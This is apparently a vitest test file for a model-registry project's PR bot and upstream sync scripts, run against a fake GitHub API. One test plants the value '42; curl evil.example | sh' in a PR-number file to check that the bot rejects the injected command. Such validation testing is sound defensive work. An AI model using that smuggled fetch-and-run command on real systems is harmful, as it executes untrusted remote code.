// scripts/pr-bot.ts and scripts/sync-upstream.ts as processes, against the FAKE GitHub API
// served on localhost (GITHUB_API_URL): arguments, output and exit codes.
import { execFile } from 'node:child_process';
import { copyFile, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import { defaultModelsDir } from '../../src/registry/paths.ts';
import { fakeGitHub, fixture, serveFake } from './fake-github.ts';
import { pr42Routes, R } from './helpers.ts';

const pr42 = pr42Routes;

let close = () => {};
afterEach(() => close());

async function script(args: string[], routes: Parameters<typeof fakeGitHub>[0]) {
  const fake = fakeGitHub(routes);
  const server = await serveFake(fake);
  close = server.close;
  const env = {
    ...process.env,
    GITHUB_API_URL: server.url,
    GITHUB_TOKEN: 'fake-token',
    GITHUB_REPOSITORY: 'mhub-org/registry',
  };
  const result = await promisify(execFile)(process.execPath, args, { env, timeout: 30_000 }).then(
    ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
    (e: { code: number; stdout: string; stderr: string }) => ({
      code: e.code,
      stdout: e.stdout,
      stderr: e.stderr,
    }),
  );
  return { ...result, fake };
}

describe('scripts/pr-bot.ts', () => {
  it('prints the comment in dry-run mode and writes nothing', async () => {
    const { code, stdout, stderr, fake } = await script(
      ['scripts/pr-bot.ts', '--pr', '42', '--dry-run'],
      pr42,
    );
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(stdout).toMatch(/^<!-- mhub-pr-bot -->\n### Model card check: `liver_seg`/);
    expect(fake.requests.every((r) => r.method === 'GET')).toBe(true);
  });

  it('prints its usage with --help, and a usage error for an unknown option, never a stack trace', async () => {
    const help = await script(['scripts/pr-bot.ts', '--help'], {});
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/^Usage: node scripts\/pr-bot\.ts --pr <n>/);
    expect(help.stdout).toContain('mhub registry check');
    expect(help.fake.requests).toEqual([]);
    const bad = await script(['scripts/pr-bot.ts', '--bogus'], {});
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/^pr-bot: Unknown option '--bogus'/);
    expect(bad.stderr).toContain('--help');
    expect(bad.stderr).not.toMatch(/\n\s+at /);
  });

  it('accepts only digits as the PR number from an artifact', async () => {
    const file = path.join(await mkdtemp(path.join(tmpdir(), 'mhub-pr-')), 'number');
    await writeFile(file, '42; curl evil.example | sh\n');
    const { code, stderr, fake } = await script(['scripts/pr-bot.ts', '--pr-file', file], pr42);
    expect(code).toBe(2);
    expect(stderr).toContain(`pr-bot: the pull request number in ${file} is not a number`);
    expect(stderr).not.toContain('curl');
    expect(fake.requests).toEqual([]);
  });

  it('exits with a clear message when the token may not comment', async () => {
    const { code, stderr } = await script(['scripts/pr-bot.ts', '--pr', '42'], {
      ...pr42,
      [`GET ${R}/issues/42/comments?per_page=100`]: { body: [] },
      [`POST ${R}/issues/42/comments`]: { status: 403, fixture: 'error-403-not-accessible.json' },
    });
    expect(code).toBe(4);
    expect(stderr).toBe(
      'pr-bot: cannot comment on #42: the token lacks permission (403 Resource not accessible by integration)\n' +
        '  Fix: give the token `pull-requests: write` (in a workflow: `permissions: pull-requests: write`); a pull_request run from a fork only ever gets a read-only token\n',
    );
  });
});

describe('scripts/sync-upstream.ts', () => {
  it('prints the diff with --dry-run', async () => {
    const blobs = fixture('upstream-blobs.json') as Record<string, unknown>;
    const models = await mkdtemp(path.join(tmpdir(), 'mhub-sync-'));
    await copyFile(path.join(defaultModelsDir, 'casust.md'), path.join(models, 'casust.md'));
    const { code, stdout, stderr } = await script(
      ['scripts/sync-upstream.ts', '--dry-run', '--models', models],
      {
        'GET /repos/MHubAI/models/commits/main': { fixture: 'upstream-commit-main.json' },
        'GET /repos/MHubAI/models/git/trees/9d3c0ffee0000000000000000000000000000001?recursive=true': {
          fixture: 'upstream-tree.json',
        },
        ...Object.fromEntries(
          Object.entries(blobs).map(([sha, body]) => [`GET /repos/MHubAI/models/git/blobs/${sha}`, { body }]),
        ),
      },
    );
    expect(code).toBe(0);
    expect(stdout).toMatch(/^\+title: CaSuSt \(v2\)$/m);
    expect(stderr).toContain(
      'sync-upstream: 4 upstream models at 9d3c0ff: 3 changed, 0 unchanged, 1 skipped',
    );
  });
});
